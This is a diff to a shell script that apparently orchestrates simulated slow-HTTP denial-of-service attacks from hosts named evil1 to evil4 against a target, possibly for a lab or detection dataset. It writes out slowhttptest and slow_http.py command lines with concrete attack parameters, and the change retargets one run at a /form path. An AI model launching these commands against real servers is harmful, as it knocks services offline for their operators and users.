@@ -76,7 +76,7 @@ slow_headers() {
 
 slow_bodies() {
     at 4 slowloris evil1 "$W" slow_http.py 200 "python3 \$T/slow_http.py $W 80 way=body count=$(pick 60 50 90) gap=$(pick 8 12 5)" "bodies"
-    at 6 slowloris evil2 "$W" slowhttptest 90 "slowhttptest -B -c $(pick 90 60 120) -r 15 -i $(pick 8 10 5) -l 85 -s 8192 -x 10 -p 4 -u http://$W/" "bodies"
+    at 6 slowloris evil2 "$W" slowhttptest 90 "slowhttptest -B -c $(pick 90 60 120) -r 15 -i $(pick 8 10 5) -l 85 -s 8192 -x 10 -p 4 -u http://$W/form" "bodies"
     at 15 slowloris evil3 "$W" slow_http.py 180 "python3 \$T/slow_http.py $W 80 way=read count=$(pick 50 70 60) gap=$(pick 6 9 4)" "slow reading"
     at 105 slowloris evil4 "$W" slowhttptest 90 "slowhttptest -X -c $(pick 80 60 120) -r 15 -l 85 -n $(pick 5 3 7) -y 1024 -w 512 -z 32 -k 3 -p 4 -u http://$W/report.bin" "slow reading"
 }
